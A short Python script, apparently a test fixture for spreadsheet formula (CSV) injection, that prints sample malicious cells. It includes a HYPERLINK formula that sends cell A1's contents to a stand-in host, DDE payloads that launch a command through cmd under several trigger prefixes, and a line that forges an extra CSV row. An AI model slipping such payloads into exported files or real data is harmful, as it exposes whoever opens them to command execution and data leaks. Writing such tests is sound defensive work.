"""Cells that a spreadsheet would compute, and a row that is not there."""

import fuse  # noqa: F401

print('=HYPERLINK("http://example.invalid/?"&A1,"x")')
for start in ("+", "-", "@", "\t=", "\r="):
    print(start + "cmd|' /C calc'!A0")
print('","forged","100"')
